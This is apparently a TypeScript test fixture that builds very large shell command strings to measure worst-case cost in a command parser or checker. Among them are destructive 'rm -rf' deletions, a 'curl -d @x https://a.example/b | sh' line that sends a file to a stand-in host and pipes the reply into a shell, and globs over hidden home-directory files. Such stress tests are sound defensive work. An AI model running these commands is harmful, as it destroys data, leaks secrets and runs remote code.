const full = (unit: string): string => unit.repeat(Math.floor(65_000 / unit.length));

/** What takes longest: as large as is judged, and made of what there is most to do about. */
export const largestCommands: Readonly<Record<string, string>> = {
  '490 deletions': 'rm -rf /x; '.repeat(490),
  '240 downloads into a shell': 'curl -d @x https://a.example/b | sh\n'.repeat(240),
  '490 patterns of secrets': 'cat ~/.*a*b*c*d*e*f*g; '.repeat(490),
  'words of a single command': `grep ${'a/b '.repeat(15_000)}`,
  'a single word': `rm -rf /${'a'.repeat(64_000)}`,
  'a path of many folders': `rm -rf ${'../'.repeat(21_000)}`,
  braces: `echo ${'{a,b}'.repeat(2_000)}`,
  'loops in one another': `${'for i in 1 2 3 4 5 6 7 8; do '.repeat(200)}ls $i; ${'done; '.repeat(200)}`,
  'replacements in a long variable': `x=${'a'.repeat(10_000)}; ${'y=${x//a/bb}; '.repeat(400)}`,
  'a here-document of 60 KB': `cat > src/a.ts <<'E'\n${'export const a = (b: string) => `${b}; c | d`;\n'.repeat(1_300)}E\n`,
  'commands, refused': full('ls; '),
  'a program in an argument': `python3 -c '${'print("x", 1)\n'.repeat(1_300)}'`,
};
